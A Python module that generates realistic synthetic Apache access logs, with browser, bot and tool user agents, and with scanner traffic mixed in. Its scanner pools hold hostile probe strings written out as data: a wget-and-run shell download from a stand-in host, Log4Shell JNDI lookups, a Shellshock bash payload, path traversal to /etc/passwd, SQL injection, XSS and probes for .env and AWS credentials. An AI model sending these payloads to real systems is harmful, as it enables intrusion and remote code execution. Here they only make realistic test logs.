"""Deterministic generator of realistic Apache access-log lines.

Stdlib only, importable from other scripts::

    from loggen import generate, write_file

    for line in generate(10, fmt="combined", doc_ranges_only=True):
        print(line)

    write_file("/tmp/big.log", 2_000_000)   # vhost_combined, ~10 s

Supported formats (Apache ``LogFormat`` names):

* ``vhost_combined``: ``%v:%p %h %l %u %t "%r" %>s %O "%{Referer}i" "%{User-Agent}i"``
* ``combined``: ``%h %l %u %t "%r" %>s %b "%{Referer}i" "%{User-Agent}i"``
* ``common``: ``%h %l %u %t "%r" %>s %b``

The same arguments always give the same lines (a private ``random.Random``
seeded with ``seed`` drives everything).  Quoted fields are escaped the way
Apache's ``ap_escape_logitem`` does it (``"`` -> ``\\"``, ``\\`` -> ``\\\\``,
other non-printable bytes -> ``\\xhh``).  Timestamps increase monotonically
over ``days`` days from ``start``; the wall clock shown is the UTC instant
converted to the line's offset (chosen per domain from ``tz_offsets``).
"""

from __future__ import annotations

import ipaddress
import itertools
import random
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

FORMATS = ("vhost_combined", "combined", "common")
DEFAULT_START = datetime(2026, 11, 1, tzinfo=UTC)
CHUNK_LINES = 20_000

MONTHS = ("Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec")

# Documentation ranges (RFC 5737 / RFC 3849).
DOC_V4_PREFIXES = ("192.0.2", "198.51.100", "203.0.113")
DOC_V6_PREFIX = 0x20010DB8 << 96

# First octets never used for "public-looking" IPv4 clients: private,
# loopback, link-local, CGNAT, documentation and multicast/reserved space.
_EXCLUDED_FIRST_OCTETS = frozenset({0, 10, 100, 127, 169, 172, 192, 198, 203})
PUBLIC_FIRST_OCTETS = tuple(o for o in range(1, 224) if o not in _EXCLUDED_FIRST_OCTETS)

NORMAL_STATUSES = ((200, 86.0), (304, 6.0), (404, 4.0), (301, 2.0), (302, 1.0), (500, 0.6), (403, 0.4))
SCANNER_STATUSES = ((404, 70.0), (403, 10.0), (400, 8.0), (301, 7.0), (200, 5.0))
# Response size logged for non-200 answers ("-" = nothing sent / %b of 0).
STATUS_SIZES = {301: "233", 302: "208", 304: "-", 400: "226", 403: "199", 404: "196", 500: "531"}
_SCANNER_STATUS_CHOICES = ([s for s, _ in SCANNER_STATUSES], [w for _, w in SCANNER_STATUSES])
USERS = (("-", 985.0), ("alice", 5.0), ("bob", 4.0), ("admin", 3.0), ("deploy", 3.0))

_ESCAPES = {0x08: "\\b", 0x09: "\\t", 0x0A: "\\n", 0x0B: "\\v", 0x0D: "\\r", 0x22: '\\"', 0x5C: "\\\\"}


def apache_escape(value: str | bytes) -> str:
    """Escape a log item like Apache's ``ap_escape_logitem``."""
    raw = value.encode() if isinstance(value, str) else value
    out = []
    for byte in raw:
        if byte in _ESCAPES:
            out.append(_ESCAPES[byte])
        elif 0x20 <= byte < 0x7F:
            out.append(chr(byte))
        else:
            out.append(f"\\x{byte:02x}")
    return "".join(out)


def _cum_weights(weights: Sequence[float]) -> list[float]:
    """Cumulative weights for ``random.choices``."""
    return list(itertools.accumulate(weights))


def _zipf(n: int, s: float = 1.0, shift: float = 2.0) -> list[float]:
    """Zipf-like weights ``1 / (rank + shift) ** s`` for ranks 0..n-1."""
    return [1.0 / (rank + shift) ** s for rank in range(n)]


def _parse_offset(offset: str) -> int:
    """Convert ``+hhmm``/``-hhmm`` into seconds east of UTC."""
    if len(offset) != 5 or offset[0] not in "+-" or not offset[1:].isdigit():
        raise ValueError(f"bad tz offset {offset!r}, expected like +0200")
    seconds = int(offset[1:3]) * 3600 + int(offset[3:5]) * 60
    return -seconds if offset[0] == "-" else seconds


# --------------------------------------------------------------------------
# User agents
# --------------------------------------------------------------------------

# Full four-part Chrome versions only: the "reduced" form ``120.0.0.0`` would
# look like an IPv4 address to naive scanners of the sample files.
_CHROME = (
    "70.0.3538.102",
    "109.0.5414.119",
    "116.0.5845.187",
    "118.0.5993.117",
    "119.0.6045.199",
    "120.0.6099.109",
    "121.0.6167.184",
    "122.0.6261.128",
    "123.0.6312.122",
    "124.0.6367.207",
    "125.0.6422.141",
    "126.0.6478.126",
    "127.0.6533.119",
    "128.0.6613.137",
    "129.0.6668.100",
    "130.0.6723.116",
    "131.0.6778.204",
)
_CHROME_PLATFORMS = ("Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "X11; Linux x86_64")
_SAFARI = ("16.6", "17.0", "17.1", "17.2.1", "17.3", "17.4.1", "17.5", "17.6", "18.0", "18.1", "18.2")
_IOS = ("16_7_10", "17_1_2", "17_4_1", "17_6_1", "18_0", "18_1_1", "18_2")
_ANDROID = ("Linux; Android 10; K", "Linux; Android 13; SM-S908B", "Linux; Android 14; Pixel 8")

BOT_UAS = (
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 "
    "(KHTML, like Gecko) Chrome/131.0.6778.204 Mobile Safari/537.36 "
    "(compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Googlebot-Image/1.0",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)",
    "DuckDuckBot-Https/1.1; (+https://duckduckgo.com/duckduckbot)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) AppleWebKit/605.1.15 "
    "(KHTML, like Gecko) Version/13.1.1 Safari/605.1.15 (Applebot/0.1; "
    "+http://www.apple.com/go/applebot)",
    "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)",
    "Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)",
    "Mozilla/5.0 (compatible; MJ12bot/v1.4.8; http://mj12bot.com/)",
    "Mozilla/5.0 (compatible;PetalBot;+https://webmaster.petalsearch.com/site/petalbot)",
    "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)",
    "Twitterbot/1.0",
    "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)",
    "CCBot/2.0 (https://commoncrawl.org/faq/)",
    "Mozilla/5.0 (compatible; Bytespider; spider-feedback@bytedance.com)",
    "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
    "Pingdom.com_bot_version_1.4_(http://www.pingdom.com/)",
)
TOOL_UAS = (
    "curl/7.68.0",
    "curl/7.81.0",
    "curl/7.88.1",
    "curl/8.5.0",
    "Wget/1.21.3",
    "python-requests/2.28.1",
    "python-requests/2.31.0",
    "python-urllib3/2.0.7",
    "Python-urllib/3.11",
    "Go-http-client/1.1",
    "Go-http-client/2.0",
    "okhttp/4.12.0",
    "axios/1.6.2",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Java/17.0.9",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "WordPress/6.4.2; https://blog7.example.net",
    "Feedly/1.0 (+http://www.feedly.com/fetcher.html)",
)
SCANNER_UAS = (
    "-",
    "curl/7.88.1",
    "python-requests/2.31.0",
    "Go-http-client/1.1",
    "Mozilla/5.0 zgrab/0.x",
    "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
    "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
    "sqlmap/1.7.2#stable (https://sqlmap.org)",
    "l9explore/1.2.2",
    "CensysInspect/1.1",
    "${jndi:ldap://203.0.113.9:1389/Exploit}",
    "${jndi:${lower:l}${lower:d}ap://198.51.100.23/a}",
    'Mozilla/5.0" onmouseover="alert(1)',
    "Hello World",
    "() { :; }; /bin/bash -c 'id'",
)


def browser_uas() -> list[str]:
    """Return about 170 current-looking desktop and mobile browser UAs."""
    uas = []
    for version in _CHROME:
        for platform in _CHROME_PLATFORMS:
            uas.append(
                f"Mozilla/5.0 ({platform}) AppleWebKit/537.36 "
                f"(KHTML, like Gecko) Chrome/{version} Safari/537.36"
            )
        uas.append(
            f"Mozilla/5.0 ({_ANDROID[len(uas) % 3]}) AppleWebKit/537.36 "
            f"(KHTML, like Gecko) Chrome/{version} Mobile Safari/537.36"
        )
    for version in _CHROME[-10:]:
        uas.append(
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
            f"(KHTML, like Gecko) Chrome/{version} Safari/537.36 Edg/{version}"
        )
    for release in range(115, 134):
        for platform in (
            "Windows NT 10.0; Win64; x64",
            "Macintosh; Intel Mac OS X 10.15",
            "X11; Ubuntu; Linux x86_64",
        ):
            uas.append(f"Mozilla/5.0 ({platform}; rv:{release}.0) Gecko/20100101 Firefox/{release}.0")
    for release in range(128, 134):
        uas.append(f"Mozilla/5.0 (Android 14; Mobile; rv:{release}.0) Gecko/{release}.0 Firefox/{release}.0")
    for version in _SAFARI:
        uas.append(
            "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 "
            f"(KHTML, like Gecko) Version/{version} Safari/605.1.15"
        )
    for device, ios in itertools.product(("iPhone", "iPad"), _IOS):
        cpu = "CPU iPhone OS" if device == "iPhone" else "CPU OS"
        uas.append(
            f"Mozilla/5.0 ({device}; {cpu} {ios} like Mac OS X) AppleWebKit/605.1.15 "
            f"(KHTML, like Gecko) Version/{ios.split('_')[0]}.0 Mobile/15E148 "
            "Safari/604.1"
        )
    return uas


def user_agent_pool() -> tuple[list[str], list[float]]:
    """All ordinary (non-scanner) UAs, escaped, with popularity weights."""
    browsers = browser_uas()
    uas = browsers + list(BOT_UAS) + list(TOOL_UAS)
    weights = [3.0] * len(browsers) + [1.5] * len(BOT_UAS) + [0.5] * len(TOOL_UAS)
    return [apache_escape(ua) for ua in uas], weights


# --------------------------------------------------------------------------
# Requests
# --------------------------------------------------------------------------

_WORDS = (
    "apache",
    "logs",
    "python",
    "weather",
    "recipes",
    "shoes",
    "laptop",
    "garden",
    "music",
    "travel",
    "coffee",
    "privacy",
    "news",
    "linux",
    "bicycle",
    "camera",
    "books",
    "holiday",
    "pizza",
    "jobs",
)
_PROTOCOLS = (("HTTP/1.1", 70.0), ("HTTP/2.0", 28.0), ("HTTP/1.0", 2.0))


@dataclass(frozen=True)
class Request:
    """One pre-rendered request line and the size logged for a 200.

    ``status`` forces the response status (e.g. 400 for a malformed request
    line); ``headers`` is False when Apache never read the request headers,
    so referrer and user agent are logged as "-".
    """

    line: str
    size: str
    status: int | None = None
    headers: bool = True


def _static_paths(rng: random.Random) -> list[tuple[str, int]]:
    """Static assets with plausible sizes."""
    paths = [
        ("/favicon.ico", 1150),
        ("/robots.txt", 68),
        ("/sitemap.xml", 24_811),
        ("/apple-touch-icon.png", 5_321),
        ("/feed/", 38_412),
    ]
    for i in range(60):
        digest = f"{rng.getrandbits(32):08x}"
        paths.append((f"/static/css/main.{digest}.css", rng.randint(8_000, 120_000)))
        paths.append((f"/static/js/app.{digest}.js", rng.randint(20_000, 400_000)))
        paths.append((f"/images/photo-{i}.jpg", rng.randint(30_000, 900_000)))
        paths.append((f"/wp-content/uploads/2026/10/img-{i}.png", rng.randint(9_000, 600_000)))
    paths += [(f"/assets/fonts/inter-{w}.woff2", 48_000 + w) for w in (400, 500, 700)]
    return paths


def _page_paths(rng: random.Random) -> list[tuple[str, int]]:
    """Dynamic pages, API calls and searches."""
    paths = [("/", 18_402), ("/about/", 9_312), ("/contact", 7_140), ("/blog/", 31_020)]
    for i in range(400):
        word = rng.choice(_WORDS)
        paths.append((f"/index.php?id={rng.randint(1, 9999)}", rng.randint(4_000, 60_000)))
        paths.append((f"/blog/2026/{i % 12 + 1:02d}/{word}-{i}/", rng.randint(12_000, 80_000)))
        paths.append((f"/products/{rng.randint(100, 99_999)}", rng.randint(9_000, 70_000)))
        paths.append((f"/api/v1/items/{rng.randint(1, 50_000)}", rng.randint(200, 4_000)))
        paths.append((f"/search?q={word}&page={rng.randint(1, 5)}", rng.randint(6_000, 40_000)))
        paths.append((f"/category/{word}?page={rng.randint(2, 30)}", rng.randint(9_000, 50_000)))
    return paths


def _sensitive_paths(rng: random.Random) -> list[tuple[str, int]]:
    """Requests that leak secrets or personal data in the query string."""
    paths = []
    for i in range(40):
        token = f"{rng.getrandbits(48):012x}"
        paths.append((f"/login?token={token}&next=%2Faccount", 5_120))
        paths.append((f"/reset-password?email=user{i}%40example.org&token={token}", 3_411))
        paths.append((f"/account/verify?email=jane.doe{i}%40example.com", 2_980))
        paths.append((f"/api/v2/auth?user=alice&password=hunter{i}", 412))
        paths.append((f"/oauth/callback?code={token}&state=xyz{i}", 1_024))
    paths.append(("/download?file=report.pdf&token=abc123", 248_113))
    return paths


def _request(method: str, path: str, size: int, rng: random.Random) -> Request:
    """Render a request line for the pool."""
    protocol = rng.choices([p for p, _ in _PROTOCOLS], [w for _, w in _PROTOCOLS])[0]
    logged = "-" if method == "HEAD" else str(size)
    return Request(apache_escape(f"{method} {path} {protocol}"), logged)


def request_pool(rng: random.Random) -> tuple[list[Request], list[float]]:
    """Ordinary requests (shuffled) with Zipf-like popularity weights."""
    requests = []
    for path, size in _static_paths(rng) + _page_paths(rng) + _sensitive_paths(rng):
        requests.append(_request("GET", path, size, rng))
    for path in (
        "/wp-login.php",
        "/api/v1/events",
        "/contact",
        "/comments/post",
        "/api/v2/auth",
        "/checkout/cart/add",
    ):
        requests.append(_request("POST", path, rng.randint(150, 9_000), rng))
    for path in ("/", "/health", "/index.php", "/feed/"):
        requests.append(_request("HEAD", path, 0, rng))
    rng.shuffle(requests)
    return requests, _zipf(len(requests), s=0.9, shift=3.0)


SCANNER_REQUESTS = (
    "GET /.env HTTP/1.1",
    "GET /.git/config HTTP/1.1",
    "GET /.aws/credentials HTTP/1.1",
    "GET /wp-admin/ HTTP/1.1",
    "GET /wp-login.php HTTP/1.1",
    "POST /xmlrpc.php HTTP/1.1",
    "GET /phpmyadmin/ HTTP/1.1",
    "GET /phpMyAdmin/index.php HTTP/1.1",
    "GET /pma/ HTTP/1.1",
    "GET /../../etc/passwd HTTP/1.1",
    "GET /cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd HTTP/1.1",
    "GET /index.php?id=1%27%20OR%20%271%27%3D%271 HTTP/1.1",
    "GET /search?q=<script>alert(1)</script> HTTP/1.1",
    'GET /"><script>alert(document.cookie)</script> HTTP/1.1',
    "GET /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php HTTP/1.1",
    "GET /actuator/env HTTP/1.1",
    "GET /server-status HTTP/1.1",
    "GET /config.json HTTP/1.1",
    "GET /backup.sql HTTP/1.1",
    "GET /HNAP1/ HTTP/1.1",
    "POST /boaform/admin/formLogin HTTP/1.1",
    "GET /shell?cd+/tmp;wget+http://203.0.113.66/x.sh;sh+x.sh HTTP/1.1",
    "GET /cgi-bin/luci/;stok=/locale?form=country&country=$(id) HTTP/1.1",
    "GET http://198.51.100.10/proxy-check HTTP/1.1",
    "CONNECT www.example.com:443 HTTP/1.1",
    "GET /?${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1",
    "GET / HTTP/1.1",
    "GET / HTTP/1.0",
)


def scanner_request_pool() -> list[Request]:
    """Probe requests, including a request-less 408 and a TLS handshake."""
    pool = [Request(apache_escape(line), "196") for line in SCANNER_REQUESTS]
    pool.append(Request(apache_escape("GET /?id=1' OR '1'='1 HTTP/1.1"), "226", 400, False))
    pool.append(Request("-", "-", 408, False))
    tls_hello = b"\x16\x03\x01\x00\xa5\x01\x00\x00\xa1\x03\x03"
    pool.append(Request(apache_escape(tls_hello), "0", 400, False))
    return pool


# --------------------------------------------------------------------------
# Clients, domains, referrers
# --------------------------------------------------------------------------


def _ipv4(rng: random.Random, doc_only: bool) -> str:
    """One random IPv4 address (documentation ranges only if ``doc_only``)."""
    if doc_only:
        return f"{rng.choice(DOC_V4_PREFIXES)}.{rng.randint(1, 254)}"
    return (
        f"{rng.choice(PUBLIC_FIRST_OCTETS)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
    )


def _ipv6(rng: random.Random) -> str:
    """One random, compressed IPv6 address under 2001:db8::/32."""
    style = rng.random()
    groups = [rng.getrandbits(16) for _ in range(6)]
    if style < 0.4:  # 2001:db8:85a3::8a2e:370:7334
        groups[1] = groups[2] = 0
    elif style < 0.7:  # 2001:db8:4a1c::1f
        groups[1:5] = [0, 0, 0, 0]
        groups[5] = rng.randint(1, 0xFF)
    value = DOC_V6_PREFIX
    for shift, group in zip(range(80, -1, -16), groups, strict=True):
        value |= group << shift
    return ipaddress.IPv6Address(value).compressed


def _unique(make: Callable[[], str], count: int, limit: int) -> list[str]:
    """Call ``make()`` until ``min(count, limit)`` distinct values exist."""
    seen: dict[str, None] = {}
    target = min(count, limit)
    while len(seen) < target:
        seen[make()] = None
    return list(seen)


def client_pool(
    rng: random.Random, n_clients: int, ipv6_share: float, doc_only: bool
) -> tuple[list[str], list[float]]:
    """Client IPs with Zipf weights; IPv6 clients get ``ipv6_share`` of traffic."""
    n6 = round(n_clients * ipv6_share) if ipv6_share > 0 else 0
    v4_limit = 3 * 254 if doc_only else 1 << 32
    v4 = _unique(lambda: _ipv4(rng, doc_only), max(n_clients - n6, 1), v4_limit)
    v6 = _unique(lambda: _ipv6(rng), n6, 1 << 96)
    w4 = _zipf(len(v4))
    w6 = _zipf(len(v6))
    scale4 = (1.0 - ipv6_share) / sum(w4)
    scale6 = ipv6_share / sum(w6) if v6 else 0.0
    clients = v4 + v6
    weights = [w * scale4 for w in w4] + [w * scale6 for w in w6]
    order = list(range(len(clients)))
    rng.shuffle(order)
    return [clients[i] for i in order], [weights[i] for i in order]


_DOMAIN_PATTERNS = (
    "shop-{}.example.com",
    "blog{}.example.net",
    "www.site{}.example.org",
    "api-{}.example.com",
    "news{}.example.net",
    "cdn{}.example.org",
    "app-{}.example.io",
    "docs{}.example.com",
)


def domain_names(n_domains: int) -> list[str]:
    """``n_domains`` distinct virtual host names like ``shop-123.example.com``."""
    names = []
    for i in range(n_domains):
        pattern = _DOMAIN_PATTERNS[i % len(_DOMAIN_PATTERNS)]
        names.append(pattern.format(i // len(_DOMAIN_PATTERNS) + 1))
    return names


@dataclass(frozen=True)
class Domain:
    """A virtual host and the UTC offset its server logs in."""

    name: str
    offset_seconds: int
    offset: str


EXTERNAL_REFERRERS = (
    "https://www.google.com/",
    "https://www.google.de/",
    "https://www.bing.com/",
    "https://duckduckgo.com/",
    "https://t.co/",
    "https://news.ycombinator.com/",
    "https://www.reddit.com/r/selfhosted/",
    "android-app://com.google.android.gm/",
    "https://www.bing.com/search?q=apache+logs&form=QBLH",
    "https://l.facebook.com/l.php?u=https%3A%2F%2Fexample.com%2F",
)
# Paths starting with "/" are same-site referrers completed per line.
INTERNAL_REFERRERS = (
    "/",
    "/blog/",
    "/search?q=shoes&page=1",
    "/products/",
    "/about/",
    "/category/news?page=2",
)


def referrer_pool() -> tuple[list[str], list[float]]:
    """Referrers: "-", external sites and same-site paths."""
    refs = ["-", *EXTERNAL_REFERRERS, *INTERNAL_REFERRERS]
    weights = [35.0] + [2.5] * len(EXTERNAL_REFERRERS) + [6.0] * len(INTERNAL_REFERRERS)
    return [apache_escape(r) for r in refs], weights


# --------------------------------------------------------------------------
# Generation
# --------------------------------------------------------------------------


@dataclass
class Pools:
    """Everything precomputed before the first line is rendered."""

    fmt: str
    domains: list[Domain]
    domain_cw: list[float]
    clients: list[str]
    client_cw: list[float]
    client_ua: list[str]
    requests: list[Request]
    request_cw: list[float]
    referrers: list[str]
    referrer_cw: list[float]
    scanners: list[str]
    scanner_requests: list[Request]
    scanner_uas: list[str]
    scanner_share: float


def build_pools(
    rng: random.Random,
    fmt: str,
    domains: Sequence[str],
    n_clients: int,
    ipv6_share: float,
    scanner_share: float,
    tz_offsets: Sequence[str],
    doc_only: bool,
) -> Pools:
    """Precompute all pools and cumulative weights for ``generate``."""
    offsets = [(_parse_offset(o), o) for o in tz_offsets]
    doms = [Domain(name, *offsets[i % len(offsets)]) for i, name in enumerate(domains)]
    rng.shuffle(doms)
    clients, client_w = client_pool(rng, n_clients, ipv6_share, doc_only)
    uas, ua_w = user_agent_pool()
    client_ua = rng.choices(uas, ua_w, k=len(clients))
    requests, request_w = request_pool(rng)
    referrers, referrer_w = referrer_pool()
    n_scanners = max(3, len(clients) // 5_000)
    return Pools(
        fmt,
        doms,
        _cum_weights(_zipf(len(doms), s=1.0, shift=1.5)),
        clients,
        _cum_weights(client_w),
        client_ua,
        requests,
        _cum_weights(request_w),
        referrers,
        _cum_weights(referrer_w),
        rng.sample(clients, min(n_scanners, len(clients))),
        scanner_request_pool(),
        [apache_escape(ua) for ua in SCANNER_UAS],
        scanner_share,
    )


def _timestamp(local_second: int, offset: str) -> str:
    """Render ``[17/May/2015:10:05:03 +0000]`` for a local epoch second."""
    t = time.gmtime(local_second)
    return (
        f"[{t.tm_mday:02d}/{MONTHS[t.tm_mon - 1]}/{t.tm_year}:"
        f"{t.tm_hour:02d}:{t.tm_min:02d}:{t.tm_sec:02d} {offset}]"
    )


def _render_chunk(p: Pools, rng: random.Random, seconds: list[int]) -> list[str]:
    """Render one line per UTC epoch second in ``seconds``."""
    k = len(seconds)
    doms = rng.choices(p.domains, cum_weights=p.domain_cw, k=k)
    client_idx = rng.choices(range(len(p.clients)), cum_weights=p.client_cw, k=k)
    reqs = rng.choices(p.requests, cum_weights=p.request_cw, k=k)
    refs = rng.choices(p.referrers, cum_weights=p.referrer_cw, k=k)
    statuses = rng.choices([s for s, _ in NORMAL_STATUSES], [w for _, w in NORMAL_STATUSES], k=k)
    users = rng.choices([u for u, _ in USERS], [w for _, w in USERS], k=k)
    ports = rng.choices(("443", "80"), (75.0, 25.0), k=k)
    scan = [rng.random() < p.scanner_share for _ in range(k)]
    stamps: dict[tuple[int, str], str] = {}
    lines = []
    for i in range(k):
        dom = doms[i]
        user = users[i]
        if scan[i]:
            ip = rng.choice(p.scanners)
            req = rng.choice(p.scanner_requests)
            ua = rng.choice(p.scanner_uas) if req.headers else "-"
            status = req.status or rng.choices(*_SCANNER_STATUS_CHOICES)[0]
            ref = user = "-"
        else:
            ip = p.clients[client_idx[i]]
            req = reqs[i]
            ua = p.client_ua[client_idx[i]]
            status = statuses[i]
            ref = refs[i]
        size = req.size if status == 200 or req.status else STATUS_SIZES[status]
        key = (seconds[i] + dom.offset_seconds, dom.offset)
        ts = stamps.get(key)
        if ts is None:
            ts = stamps[key] = _timestamp(*key)
        line = f'{ip} - {user} {ts} "{req.line}" {status} {size}'
        if p.fmt != "common":
            if ref[0] == "/":
                scheme = "https" if ports[i] == "443" else "http"
                ref = f"{scheme}://{dom.name}{ref}"
            line = f'{line} "{ref}" "{ua}"'
        if p.fmt == "vhost_combined":
            line = f"{dom.name}:{ports[i]} {line}"
        lines.append(line)
    return lines


def _epoch(start: datetime | None) -> int:
    """UTC epoch seconds of ``start`` (naive datetimes are taken as UTC)."""
    start = start or DEFAULT_START
    if start.tzinfo is None:
        start = start.replace(tzinfo=UTC)
    return int(start.timestamp())


def generate_chunks(
    n_lines: int,
    *,
    fmt: str = "vhost_combined",
    seed: int = 1,
    n_domains: int = 2000,
    n_clients: int = 126_000,
    ipv6_share: float = 0.05,
    scanner_share: float = 0.04,
    start: datetime | None = None,
    days: int = 3,
    tz_offsets: Sequence[str] = ("+0000",),
    doc_ranges_only: bool = False,
    domains: Sequence[str] | None = None,
) -> Iterator[list[str]]:
    """Like ``generate`` but yields lists of up to ``CHUNK_LINES`` lines."""
    if fmt not in FORMATS:
        raise ValueError(f"unknown format {fmt!r}; expected one of {FORMATS}")
    if not tz_offsets:
        raise ValueError("tz_offsets must not be empty")
    rng = random.Random(seed)
    names = list(domains) if domains else domain_names(n_domains)
    pools = build_pools(rng, fmt, names, n_clients, ipv6_share, scanner_share, tz_offsets, doc_ranges_only)
    first = _epoch(start)
    step = days * 86_400 / max(n_lines, 1)
    for lo in range(0, n_lines, CHUNK_LINES):
        hi = min(lo + CHUNK_LINES, n_lines)
        rand = rng.random
        seconds = [first + int((i + rand()) * step) for i in range(lo, hi)]
        yield _render_chunk(pools, rng, seconds)


def generate(
    n_lines: int,
    *,
    fmt: str = "vhost_combined",
    seed: int = 1,
    n_domains: int = 2000,
    n_clients: int = 126_000,
    ipv6_share: float = 0.05,
    scanner_share: float = 0.04,
    start: datetime | None = None,
    days: int = 3,
    tz_offsets: Sequence[str] = ("+0000",),
    doc_ranges_only: bool = False,
    domains: Sequence[str] | None = None,
) -> Iterator[str]:
    """Yield ``n_lines`` Apache access-log lines (without trailing newline).

    ``domains`` optionally replaces the generated ``n_domains`` host names
    (useful for a single-site ``combined``/``common`` log).
    """
    for chunk in generate_chunks(
        n_lines,
        fmt=fmt,
        seed=seed,
        n_domains=n_domains,
        n_clients=n_clients,
        ipv6_share=ipv6_share,
        scanner_share=scanner_share,
        start=start,
        days=days,
        tz_offsets=tz_offsets,
        doc_ranges_only=doc_ranges_only,
        domains=domains,
    ):
        yield from chunk


def write_file(path: str | Path, n_lines: int, **kw: Any) -> int:
    """Write ``n_lines`` generated lines (each ending in ``\\n``) to ``path``.

    Keyword arguments are those of ``generate``.  Returns bytes written.
    """
    written = 0
    with open(path, "wb") as out:
        for chunk in generate_chunks(n_lines, **kw):
            data = ("\n".join(chunk) + "\n").encode("ascii")
            out.write(data)
            written += len(data)
    return written


if __name__ == "__main__":
    import sys

    for generated in generate(int(sys.argv[1]) if len(sys.argv) > 1 else 10):
        print(generated)
